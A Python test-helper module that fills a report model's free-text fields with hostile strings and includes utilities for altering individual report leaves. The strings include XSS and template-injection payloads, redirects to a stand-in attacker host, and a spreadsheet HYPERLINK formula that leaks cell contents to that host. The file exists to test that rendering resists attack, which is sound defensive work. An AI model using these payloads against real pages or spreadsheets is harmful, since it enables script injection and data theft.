"""Texts that attack a page, and ways to change every leaf of a report."""

from __future__ import annotations

from collections.abc import Callable
from typing import TypeVar

from experiments.reporting.parts import ReportModel

P = TypeVar("P", bound=ReportModel)
Path = tuple[str | int, ...]

HOSTILE = {
    "script": "<script>window.owned = 1; alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "style": '</style><style>* { display: none }</style><p style="background:url(https://attack.invalid/a)">',
    "title": "</title><svg onload=alert(1)><animate onbegin=alert(1)>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://attack.invalid/"><base href=https://attack.invalid/>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><link rel=stylesheet href=//attack.invalid/a.css>',
    "template": "{{ 7 * 7 }} {% raw %} {# no #} ${7*7} #{7*7}",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;amp; <!-- --> ]]> <![CDATA[",
    "formula": '=HYPERLINK("https://attack.invalid/?"&A1,"open")',
    "address": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "override": "approved \u202egnp.exe\u202c \u2066inner\u2069 \u200f\u061c\u200b\u2028",
    "control": "a\x00b\x07c\x1b[31md\x7fe\x85f\ufeff",
    "surrogate": "a\ud800b\udfffc",
    "marks": "Z" + "\u0337\u0353\u034e" * 60 + "algo",
    "wide": "W" * 5000,
    "megabyte": "I owe money & <b>rent</b>. " * 40_000,
    "blank": " \t\n\u00a0 ",
    "arabic": "أحتاج إلى قرض لدفع الفواتير (1234)",
}
CHOSEN = {  # one of a few words, no free text
    "key",
    "rules",
    "language",
    "form",
    "grade",
    "report",
    "decision",
    "kind",
    "sentence_method",
    "source",
    "state",
    "goal",
    "outcome",
    "reading",
}


def leaves(node: object, path: Path = ()) -> list[tuple[Path, object]]:
    """Every leaf of plain data with its path."""
    if isinstance(node, dict):
        return [leaf for key, value in node.items() for leaf in leaves(value, (*path, key))]
    if isinstance(node, list | tuple):
        return [leaf for i, value in enumerate(node) for leaf in leaves(value, (*path, i))]
    return [(path, node)]


def filled(report: P, text: str) -> P:
    """The report with this text wherever it holds a free one, validated."""

    def put(key: str, value: object) -> object:
        if key == "links":
            return value
        if isinstance(value, dict):
            return {name: put(name, item) for name, item in value.items()}
        if isinstance(value, list | tuple):
            return tuple(put(key, item) for item in value)
        return text if isinstance(value, str) and key not in CHOSEN else value

    changed = {key: put(key, value) for key, value in report.model_dump().items()}
    return type(report).model_validate(changed)


def with_leaf(report: P, path: Path, change: Callable[[object], object]) -> P:
    """The report with one leaf changed and nothing validated, so that sums need not be mended."""
    key = str(path[0])
    return report.model_copy(update={key: _changed(getattr(report, key), path[1:], change)})


def _changed(value: object, path: Path, change: Callable[[object], object]) -> object:
    if not path:
        return change(value)
    if isinstance(value, ReportModel):
        return with_leaf(value, path, change)
    if isinstance(value, tuple):
        return tuple(_changed(item, path[1:], change) if i == path[0] else item for i, item in enumerate(value))
    assert isinstance(value, dict)
    return value | {path[0]: _changed(value[path[0]], path[1:], change)}
